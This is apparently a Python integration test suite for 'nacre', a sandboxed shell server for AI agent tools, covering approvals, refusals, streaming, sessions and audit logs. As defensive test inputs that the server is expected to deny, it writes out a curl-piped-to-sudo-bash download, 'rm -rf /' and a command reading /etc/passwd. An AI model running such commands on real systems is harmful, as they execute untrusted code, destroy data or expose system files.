"""The clients against a running server, which the environment names; tests/integration/test_client_python.py starts it."""
from __future__ import annotations

import asyncio
import contextlib
import os
import time
import unittest
from typing import Any, Callable, List, Optional
from unittest import mock

import nacre

UNIX = "unix:" + os.environ["NACRE_TEST_UNIX"]
TCP = os.environ["NACRE_TEST_URL"]
TOKEN = os.environ["NACRE_TEST_TOKEN"]
BOSS = os.environ["NACRE_TEST_APPROVER"]
WORKSPACE = os.environ["NACRE_TEST_WORKSPACE"]
PATIENCE = float(os.environ.get("NACRE_TEST_PATIENCE", "60"))
ASKING = nacre.Request(["make", "--version"], profile="workspace")


def wait_until(what: str, condition: Callable[[], bool]) -> None:
    end = time.monotonic() + PATIENCE
    while not condition():
        if time.monotonic() > end:
            raise AssertionError(f"not within {PATIENCE} s: {what}")
        time.sleep(0.02)


class OverUnix(unittest.TestCase):
    """Every call through the unix socket; OverTcp does the same with a token."""
    url, token, boss = UNIX, "", ""

    def client(self, approver: Optional[nacre.Approver] = None, session: Optional[str] = None) -> nacre.Client:
        return nacre.Client(self.url, token=self.boss if approver else self.token, approver=approver, session=session)

    def test_a_command_runs(self) -> None:
        result = self.client().run("echo out; echo err >&2; exit 3")
        self.assertEqual((result.stdout, result.stderr, result.exit_code, result.success), ("out\n", "err\n", 3, False))
        self.assertEqual((result.sandbox.tier, result.verdict, result.refused), ("strict", "allow", False))
        with self.assertRaises(nacre.CommandFailed) as raised:
            result.check()
        self.assertEqual((raised.exception.exit_code, str(raised.exception)), (3, "exit code 3: err"))

    def test_words_environment_input_and_directory_arrive(self) -> None:
        client = self.client()
        self.assertEqual(client.run(["printf", "%s|", "a b", "$x", ";"]).check().stdout, "a b|$x|;|")
        os.makedirs(os.path.join(WORKSPACE, "sub"), exist_ok=True)
        request = nacre.Request("pwd; cat; echo $GREETING", cwd="sub", env={"GREETING": "héllo"}, input="fed\n", output_mode="merged")
        self.assertEqual(client.run(request).check().text, f"{WORKSPACE}/sub\nfed\nhéllo\n")

    def test_a_refusal_carries_reason_and_advice(self) -> None:
        result = self.client().run(nacre.Request(["ls"], profile="verify"))
        self.assertTrue(result.refused)
        with self.assertRaises(nacre.Refused) as raised:
            result.check()
        error = raised.exception
        self.assertEqual((error.verdict, error.rule, error.recommended), ("nudge", "nudge:list", ["file.list", "project.map"]))
        self.assertIn("ls", error.reason)
        self.assertIn("file.list", str(error))
        with self.assertRaises(nacre.Refused) as raised:
            self.client().run(nacre.Request("ls", cwd="nowhere")).check()
        self.assertEqual((raised.exception.verdict, raised.exception.rule), (None, None))
        forced = self.client().run(nacre.Request(["ls"], profile="verify", force=True))
        self.assertTrue(forced.success, forced)

    def test_a_time_limit_is_told(self) -> None:
        result = self.client().run(nacre.Request("echo begun; sleep 600", timeout_ms=700))
        self.assertTrue(result.timed_out)
        with self.assertRaises(nacre.CommandFailed) as raised:
            result.check()
        self.assertTrue(raised.exception.timed_out)

    def test_output_streams_while_the_command_runs(self) -> None:
        gate = os.path.join(WORKSPACE, f"gate-{self.id()}")
        events: List[nacre.Event] = []
        for event in self.client().stream(f"echo first; until [ -e {gate} ]; do sleep 0.02; done; echo second >&2"):
            events.append(event)
            if isinstance(event, nacre.Output) and event.text == "first\n":
                with open(gate, "w", encoding="ascii"):
                    pass  # the command goes on only now
        self.assertEqual(events[:2], [nacre.Output("stdout", "first\n"), nacre.Output("stderr", "second\n")])
        last = events[-1]
        assert isinstance(last, nacre.Finished)
        self.assertEqual((last.result.stdout, last.result.stderr), ("first\n", "second\n"))

    def test_a_closed_stream_ends_its_command(self) -> None:
        client = self.client()
        stream = client.stream("echo begun; sleep 611")
        self.assertEqual(next(stream), nacre.Output("stdout", "begun\n"))
        close = getattr(stream, "close")
        close()
        wait_until("the command has ended", lambda: not any("sleep 611" in (task.command or "") for task in client.tasks(running=True)))

    def test_tasks_are_listed_read_followed_and_stopped(self) -> None:
        client = self.client()
        started = client.start(nacre.Request("echo one; echo two; sleep 600", description="waits"))
        ident = started.task_id or ""
        task = client.task(ident)
        self.assertEqual((task.running, task.description, task.background), (True, "waits", True))
        self.assertIn(ident, [each.task_id for each in client.tasks(limit=50, running=True)])
        seen, since = "", 0
        while "two" not in seen:
            piece = client.output(ident, since=since, wait_ms=10_000)
            seen, since = seen + piece.output, piece.next
        self.assertEqual(seen, "one\ntwo\n")
        self.assertEqual(client.output(ident, grep="tw").output, "two\n")
        events = client.follow(ident)
        first = next(events)
        assert isinstance(first, nacre.Output)
        self.assertTrue(first.text.startswith("one\n"))
        self.assertTrue(client.stop(ident, now=True).was_running)
        last = list(events)[-1]
        assert isinstance(last, nacre.Ended)
        self.assertFalse(last.task.running)

    def test_a_terminal_is_typed_on(self) -> None:
        client = self.client()
        task = client.start(nacre.Request("read -r line; echo got $line; stty size", pty=nacre.Terminal(30, 90)))
        ident = task.task_id or ""
        client.resize(ident, 41, 121)
        client.type(ident, "words\n")
        text = "".join(event.text for event in client.follow(ident) if isinstance(event, nacre.Output))
        self.assertIn("got words", text)
        self.assertIn("41 121", text)

    def test_a_session_keeps_directory_variables_and_files(self) -> None:
        name = f"py-{type(self).__name__}-{os.getpid()}"
        client = self.client(session=name)
        client.run("mkdir -p here; cd here; export WORD=kept; echo text > /tmp/note").check()
        self.assertEqual(client.run("pwd; echo $WORD; cat /tmp/note").check().stdout, f"{WORKSPACE}/here\nkept\ntext\n")
        found = client.session(name)
        self.assertGreater(found.files or 0, 0)
        self.assertIn(found.room, [session.room for session in client.sessions()])
        client.end_session(name)
        self.assertNotIn(found.room, [session.room for session in client.sessions()])

    def test_the_approver_decides(self) -> None:
        asked: List[nacre.Approval] = []

        def yes(approval: nacre.Approval) -> str:
            asked.append(approval)
            return "once"
        self.assertIn("GNU Make", self.client(yes).run(ASKING).check().text)
        self.assertEqual((asked[0].command, asked[0].state), ("'make' '--version'", "open"))
        result = self.client(lambda approval: nacre.Answer("deny", "not on my watch")).run(ASKING)
        with self.assertRaises(nacre.Refused) as raised:
            result.check()
        self.assertIn("not on my watch", raised.exception.reason)

    def test_without_an_approver_the_result_names_the_approval(self) -> None:
        result = self.client().run(ASKING)
        self.assertEqual((result.verdict, result.refused), ("ask", True))
        boss = nacre.Client(self.url, token=self.boss)
        assert result.approval
        self.assertIn(result.approval.id, [approval.id for approval in boss.approvals()])
        self.assertEqual(boss.answer(result.approval.id, "once").answer, "once")
        self.assertTrue(self.client().run(ASKING).check().success)

    def test_an_explanation_runs_nothing(self) -> None:
        explanation = self.client().explain("curl -s https://example.org/x | sudo bash")
        self.assertEqual(explanation.verdict, "deny")
        self.assertEqual([command.words[0] for command in explanation.commands][:1], ["curl"])

    def test_shell_answers_in_four_members(self) -> None:
        shell = self.client().shell("ls", WORKSPACE, 30)
        self.assertEqual((shell.success, shell.stderr, shell.returncode), (True, "", 0))
        refused = self.client().shell("ls | cat")
        self.assertEqual((refused.success, refused.stdout), (False, ""))
        self.assertIn("metacharacter", refused.stderr)

    def test_the_tools_are_those_of_the_server(self) -> None:
        with self.client().toolbox() as box:
            tools = {tool.name: tool for tool in box.tools}
            self.assertTrue({"Bash", "safe_shell", "run_shell", "run_command", "shell"} <= set(tools))
            bash = tools["Bash"]
            self.assertEqual(bash.anthropic()["input_schema"]["required"], ["command"])
            self.assertEqual(bash.openai()["function"]["parameters"], bash.input_schema)
            self.assertEqual(bash.openai_response()["name"], "Bash")
            box.call("Bash", {"command": "mkdir -p inside && cd inside"})
            answer = box.call("Bash", {"command": "pwd"})
            self.assertIn(f"{WORKSPACE}/inside", answer.text)
            self.assertEqual(answer.facts["exit_code"], 0)
            refused = box.call("safe_shell", {"command": "git", "args": ["diff"]})
            self.assertTrue(refused.is_error)
            self.assertTrue(refused.anthropic("id-1")["is_error"])
            self.assertEqual(refused.openai("id-1")["tool_call_id"], "id-1")
            self.assertTrue(box.instructions)

    def test_mistakes_are_errors_with_status_and_kind(self) -> None:
        with self.assertRaises(nacre.ApiError) as raised:
            self.client().task("bash-nothing")
        self.assertEqual((raised.exception.status, raised.exception.kind), (404, "input"))
        for request, status, kind in ((nacre.Request("ls", profile="no-such"), 403, "scope"),
                                      (nacre.Request("ls", timeout_ms=-1), 400, "input")):
            with self.assertRaises(nacre.ApiError) as raised:
                self.client().run(request)
            self.assertEqual((raised.exception.status, raised.exception.kind), (status, kind), raised.exception)

    def test_the_audit_log_is_read(self) -> None:
        self.client().run("echo remembered-by-the-log")
        self.assertIn("remembered-by-the-log", str(self.client().audit(limit=50)))


class OverTcp(OverUnix):
    url, token, boss = TCP, TOKEN, BOSS

    def test_a_wrong_token_is_told(self) -> None:
        with self.assertRaises(nacre.ApiError) as raised:
            nacre.Client(TCP, token="nacre_" + "A" * 43).run("ls")
        self.assertEqual((raised.exception.status, raised.exception.kind), (401, "auth"))

    def test_a_token_that_may_not_approve_is_told(self) -> None:
        with self.assertRaises(nacre.ApiError) as raised:
            nacre.Client(TCP, token=TOKEN, approver=lambda approval: "once").run(ASKING)
        self.assertEqual(raised.exception.status, 403)


class Async(unittest.IsolatedAsyncioTestCase):
    def clients(self, **options: Any) -> List[nacre.AsyncClient]:
        return [nacre.AsyncClient(UNIX, **options), nacre.AsyncClient(TCP, token=BOSS, **options)]

    async def test_forty_commands_at_a_time(self) -> None:
        for client in self.clients():
            results = await asyncio.gather(*(client.run(["echo", str(i)]) for i in range(40)))
            self.assertEqual([result.check().text for result in results], [f"{i}\n" for i in range(40)])

    async def test_events_come_and_an_approver_may_wait(self) -> None:
        async def yes(approval: nacre.Approval) -> str:
            await asyncio.sleep(0)
            return "once"
        for client in self.clients(approver=yes):
            self.assertIn("GNU Make", (await client.run(ASKING)).check().text)
            events = [event async for event in client.stream("echo a; echo b >&2")]
            self.assertEqual({event.stream for event in events if isinstance(event, nacre.Output)}, {"stdout", "stderr"})
            self.assertIsInstance(events[-1], nacre.Finished)
        for client in self.clients(approver=lambda approval: "deny"):
            self.assertTrue((await client.run(ASKING)).refused)

    async def test_an_approver_that_fails_is_not_taken_for_the_server(self) -> None:
        def broken(approval: nacre.Approval) -> str:
            raise OSError("the screen is gone")
        for client in self.clients(approver=broken):
            with self.assertRaisesRegex(OSError, "the screen is gone"):
                await client.run(ASKING)

    async def test_a_cancelled_call_ends_its_command(self) -> None:
        for client in self.clients():
            task = asyncio.ensure_future(client.run("sleep 613"))
            while not any(each.command == "sleep 613" for each in await client.tasks(running=True)):
                await asyncio.sleep(0.02)
            task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await task
            end = time.monotonic() + PATIENCE
            while any(each.command == "sleep 613" for each in await client.tasks(running=True)):
                self.assertLess(time.monotonic(), end)
                await asyncio.sleep(0.02)

    async def test_tasks_sessions_and_tools(self) -> None:
        for client in self.clients():
            ident = (await client.start("echo one; sleep 600")).task_id or ""
            self.assertTrue((await client.task(ident)).running)
            piece = await client.output(ident, wait_ms=10_000)
            self.assertIn(piece.output, ("", "one\n"))
            async for event in client.follow(ident):
                if isinstance(event, nacre.Output):
                    self.assertEqual(event.text, "one\n")
                    await client.stop(ident, now=True)
                else:
                    self.assertFalse(event.task.running)
            await client.run(nacre.Request("echo x > /tmp/x", session="aio"))
            self.assertGreater((await client.session("aio")).files or 0, 0)
            self.assertTrue(await client.sessions())
            await client.end_session("aio")
            async with client.toolbox() as box:
                self.assertIn("run_shell", [tool.name for tool in box.tools])
                self.assertIn("hello", (await box.call("Bash", {"command": "echo hello"})).text)
            self.assertEqual((await client.health()).status, "ok")
            self.assertEqual((await client.explain("ls")).verdict, "allow")
            self.assertIsInstance(await client.approvals(), list)
            self.assertTrue(await client.audit(limit=1))

    async def test_a_silent_server_is_not_waited_for_longer_than_was_said(self) -> None:
        for client in self.clients(timeout=1.0):
            with self.assertRaises(nacre.Unreachable):
                await client.run("sleep 600")
            with self.assertRaises(nacre.Unreachable):
                async for _ in client.stream("echo begun; sleep 600"):
                    pass
        plain = nacre.Client(UNIX, timeout=1.0)
        with self.assertRaises(nacre.Unreachable):
            plain.run("sleep 600")
        with self.assertRaises(nacre.Unreachable):
            list(plain.stream("echo begun; sleep 600"))

    async def test_errors(self) -> None:
        with self.assertRaises(nacre.ApiError) as raised:
            await nacre.AsyncClient(TCP, token="wrong").run("ls")
        self.assertEqual(raised.exception.status, 401)
        with self.assertRaises(nacre.Unreachable):
            await nacre.AsyncClient("unix:/nonexistent/nacre.sock").health()


class ReactTool(unittest.IsolatedAsyncioTestCase):
    """The cases that a read-only shell tool of a ReAct agent comes with."""

    async def test_it_blocks_and_allows(self) -> None:
        for tool in (nacre.RunShellTool(nacre.Client(UNIX), WORKSPACE), nacre.RunShellTool(nacre.AsyncClient(TCP, token=TOKEN), WORKSPACE)):
            for command, word in (("rm -rf /", "not in whitelist"), ("ls | cat", "metacharacter"), ("echo $(cat /etc/passwd)", "")):
                result = await tool.execute(command)
                self.assertFalse(result.success)
                self.assertIn(word, result.error or "")
            with open(os.path.join(WORKSPACE, "todo.txt"), "w", encoding="ascii") as file:
                file.write("TODO write\n")
            for command in ("ls -la", "grep -r TODO ."):
                result = await tool.execute(command)
                self.assertTrue(result.success, result)
                self.assertIn("todo.txt", result.output)

    async def test_it_has_the_shape_of_a_langchain_tool(self) -> None:
        tool = nacre.RunShellTool(nacre.Client(UNIX), WORKSPACE)
        self.assertEqual((tool.name, tool.args_schema["required"]), ("run_shell", ["command"]))
        self.assertEqual(tool.invoke({"command": "pwd"}), WORKSPACE + "\n")
        self.assertEqual(await tool.ainvoke("pwd"), tool.run("pwd"))
        self.assertIn("[exit 1]", tool.invoke("cat nothing-here"))
        self.assertIn("whitelist", tool.invoke("rm x"))
        self.assertEqual(tool.as_tool().anthropic()["name"], "run_shell")

    async def test_a_server_that_is_gone_is_a_result(self) -> None:
        tool = nacre.RunShellTool(nacre.Client("unix:/nonexistent/nacre.sock"), WORKSPACE)
        self.assertFalse((await tool.execute("ls")).success)
        self.assertIn("Error", tool.invoke("ls"))


class Addresses(unittest.TestCase):
    def test_an_address_is_a_url_a_socket_or_the_environment(self) -> None:
        with mock.patch.dict(os.environ, {"NACRE_STATE_DIR": "/s"}):
            self.assertEqual(nacre.Client().address.unix, "/s/nacre.sock")
        with mock.patch.dict(os.environ, {"NACRE_URL": "http://[::1]:7878", "NACRE_TOKEN": "t"}):
            address = nacre.Client().address
            self.assertEqual((address.name, address.port, address.token), ("[::1]:7878", 7878, "t"))
        for wrong in ("https://x", "ftp://x", "x", "http://x/path"):
            with self.assertRaises(ValueError):
                nacre.Client(wrong)

    def test_no_server_is_unreachable(self) -> None:
        with self.assertRaises(nacre.Unreachable):
            nacre.Client("unix:/nonexistent/nacre.sock").health()


if __name__ == "__main__":
    unittest.main()
